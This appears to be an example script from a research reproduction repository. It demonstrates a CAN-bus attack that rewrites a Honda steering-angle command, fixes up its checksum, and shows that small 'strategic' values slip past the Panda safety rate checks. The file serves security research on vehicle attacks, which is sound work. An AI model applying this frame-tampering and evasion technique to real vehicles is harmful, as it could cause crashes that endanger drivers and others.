@@ -1,0 +1,67 @@
+#!/usr/bin/env python3
+"""CAN-level attack deployment: tamper with the 0xE4 steering frame.
+
+The paper's Fig. 4 shows the attack's last stage: corrupt the CAN message
+that carries the steering command and recompute its checksum so the frame
+still passes integrity checks.  This example demonstrates that path
+directly on the CAN substrate, without running a full simulation:
+
+1. encode a legitimate STEERING_CONTROL frame the way the ADAS would,
+2. tamper with the ``STEER_ANGLE_CMD`` signal (checksum fixed up),
+3. show that the tampered frame still verifies,
+4. run both frames through the Panda safety model to show which injected
+   values would be blocked on a real car and which would slip through.
+
+Run with::
+
+    python examples/can_tampering.py
+"""
+
+from repro.adas.panda import PandaSafetyModel
+from repro.can.checksum import verify_checksum
+from repro.can.honda import HONDA_DBC
+from repro.core.can_tamper import tamper_signal
+
+
+def describe(label, frame):
+    decoded = HONDA_DBC.decode(frame, check=False)
+    print(
+        f"{label:28s} addr=0x{frame.address:X} data={frame.hex()} "
+        f"angle={decoded['STEER_ANGLE_CMD']:+.2f} deg "
+        f"checksum_ok={verify_checksum(frame.address, frame.data)}"
+    )
+
+
+def main() -> None:
+    # 1. The ADAS sends a small corrective steering command.
+    legitimate = HONDA_DBC.encode(
+        "STEERING_CONTROL", {"STEER_ANGLE_CMD": 0.6, "STEER_REQUEST": 1.0}, counter=2
+    )
+    describe("legitimate frame", legitimate)
+
+    # 2./3. The attacker rewrites the steering angle and fixes the checksum.
+    stealthy = tamper_signal(legitimate, HONDA_DBC, {"STEER_ANGLE_CMD": 0.25})
+    describe("tampered (strategic value)", stealthy)
+
+    aggressive = tamper_signal(legitimate, HONDA_DBC, {"STEER_ANGLE_CMD": 45.0})
+    describe("tampered (out of range)", aggressive)
+
+    # 4. Panda's safety model: the strategic value passes, the aggressive
+    #    per-frame jump is rejected.
+    panda = PandaSafetyModel()
+    panda.check_frame(legitimate, time=0.0)
+    stealth_violations = panda.check_frame(stealthy, time=0.01)
+    aggressive_violations = panda.check_frame(aggressive, time=0.02)
+    print()
+    print(f"Panda verdict on the strategic frame:  "
+          f"{[v.rule for v in stealth_violations] or 'accepted'}")
+    print(f"Panda verdict on the aggressive frame: "
+          f"{[v.rule for v in aggressive_violations] or 'accepted'}")
+    print()
+    print("A strategically bounded corruption survives both the CAN checksum and "
+          "the Panda rate checks — which is why the paper's attack constrains its "
+          "values to the safety limits instead of bombarding the bus.")
+
+
+if __name__ == "__main__":
+    main()
